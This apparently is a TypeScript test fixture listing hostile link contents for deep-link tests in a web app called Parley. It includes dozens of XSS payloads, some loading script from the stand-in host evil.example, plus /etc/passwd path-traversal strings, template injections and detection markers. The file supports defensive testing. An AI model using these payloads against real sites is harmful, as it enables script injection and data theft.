/**
 * Hostile link contents for the deep-link tests: well-known XSS payloads (OWASP filter-evasion cheat
 * sheet, PortSwigger's XSS cheat sheet, PayloadsAllTheThings), path tricks, template injections and
 * oversized values, and the URL positions each one is placed in.
 */

/** Long enough to matter (several kB in one URL position), short enough for any server's request line. */
const LONG = 4_000;

export const XSS_PAYLOADS: readonly string[] = [
  // Plain markup and attribute breakouts.
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script src=//evil.example/x.js></script>',
  '</script><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '<!--<script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<img src=x onerror=alert(1)>',
  '"><img src=x onerror=alert(1)>',
  '<img src=x onerror=prompt(1)>',
  '<svg onload=alert(1)>',
  '<svg/onload=alert(1)>',
  '"><svg/onload=confirm(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '" onmouseover="alert(1)',
  "' onfocus='alert(1)' autofocus='",
  // Markup that would load or navigate elsewhere.
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<object data="javascript:alert(1)">',
  '<embed src="javascript:alert(1)">',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel=import href=//evil.example/x>',
  "<style>@import 'javascript:alert(1)'</style>",
  '<div style="background:url(javascript:alert(1))">',
  // Scheme tricks, for anything that might become a link target.
  'javascript:alert(1)',
  'JaVaScRiPt:alert(document.domain)',
  'java%09script:alert(1)',
  'javascript%3Aalert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  '//evil.example',
  'https://evil.example/',
  '\\\\evil.example',
  '/\\evil.example',
  // Encoded, double-encoded and entity-encoded markup.
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '%253Cscript%253Ealert(1)%253C%252Fscript%253E',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '\\x3cscript\\x3ealert(1)\\x3c/script\\x3e',
  '%00<script>alert(1)</script>',
  '%E0%A4%A',
  '%%%',
  '＜script＞alert(1)＜/script＞',
  '\u202Ealert(1)',
  // Script-context and template injections.
  "'-alert(1)-'",
  '";alert(1);//',
  "';alert(1);//",
  '\\";alert(1);//',
  'alert`1`',
  "{{constructor.constructor('alert(1)')()}}",
  '${alert(1)}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  // Object-key and path tricks.
  '__proto__',
  'constructor',
  '2025-08-18-white-house-meeting<script>alert(1)</script>',
  '2025-08-18-white-house-meeting%2F..%2F..%2F',
  '..%2f..%2f..%2fetc%2fpasswd',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '....//....//etc/passwd',
  // Oversized values.
  'A'.repeat(LONG),
  '<script>alert(1)</script>'.repeat(LONG / 25),
  'a,'.repeat(LONG / 2),
];

/**
 * Text that would only be on the page if a payload had been shown back (none of it is in the
 * dataset or the interface; a test checks that before relying on it). Compared case-insensitively.
 */
export const MARKERS: readonly string[] = [
  'alert(',
  'alert`',
  'confirm(',
  'prompt(',
  'msgbox',
  '<script',
  'script>',
  '<img',
  '<svg',
  'onerror',
  'onload',
  'javascript:',
  'vbscript:',
  'evil.example',
  'constructor',
  '__proto__',
  '{{',
  '${',
  'passwd',
  'AAAAAAAAAA',
];

/** Percent-encodes the characters in `chars`, so that a payload stays inside its URL position. */
function escapeChars(payload: string, chars: RegExp): string {
  return payload.replace(chars, (c) => encodeURIComponent(c));
}

/**
 * The payload as the event id path segment. Slashes are escaped so it stays one segment. A path
 * that cannot be percent-decoded gets its `%` escaped too: the preview server answers such a path
 * with an empty 404 before the app is involved (a static host would serve its 404 page, which runs
 * the same app).
 */
function pathSegment(payload: string): string {
  const segment = escapeChars(payload, /[/\\?#]/g);
  try {
    decodeURIComponent(segment);
    return segment;
  } catch {
    return segment.replace(/%/g, '%25');
  }
}

/** A query value: kept as typed (so encoded payloads stay encoded), except what would end the value. */
const queryValue = (payload: string) => escapeChars(payload, /[&#]/g);
const queryKey = (payload: string) => escapeChars(payload, /[&#=]/g);

/** Every place in Parley's URL scheme that a link controls. */
export const POSITIONS = [
  'event id path segment',
  'actors value',
  'match value',
  'unknown query key and value',
  'embed value',
  'quote fragment',
] as const;

export type Position = (typeof POSITIONS)[number];

/** One hostile link: the payload in each position, and the link (relative to the base path). */
export interface HostileLink {
  readonly slots: Readonly<Record<Position, string>>;
  readonly link: string;
}

function linkFor(slots: Readonly<Record<Position, string>>): string {
  const unknown = slots['unknown query key and value'];
  const query = [
    // After a real actor, so the filter is applied and the payload is what gets dropped.
    `actors=donald-trump,${queryValue(slots['actors value'])}`,
    `match=${queryValue(slots['match value'])}`,
    `${queryKey(unknown)}=${queryValue(unknown)}`,
    `embed=${queryValue(slots['embed value'])}`,
  ].join('&');
  return `events/${pathSegment(slots['event id path segment'])}/?${query}#quote-${slots['quote fragment']}`;
}

/**
 * One link per payload, each with a different payload in every position: link i holds payload
 * (i + k·step) mod n in position k, so over the n links every payload is tried in every position
 * once, in n page loads instead of n × positions.
 */
export function hostileLinks(payloads: readonly string[]): HostileLink[] {
  const step = Math.max(1, Math.floor(payloads.length / POSITIONS.length));
  return payloads.map((_, i) => {
    const slots = Object.fromEntries(
      POSITIONS.map((position, k) => [position, payloads[(i + k * step) % payloads.length] ?? '']),
    ) as Record<Position, string>;
    return { slots, link: linkFor(slots) };
  });
}
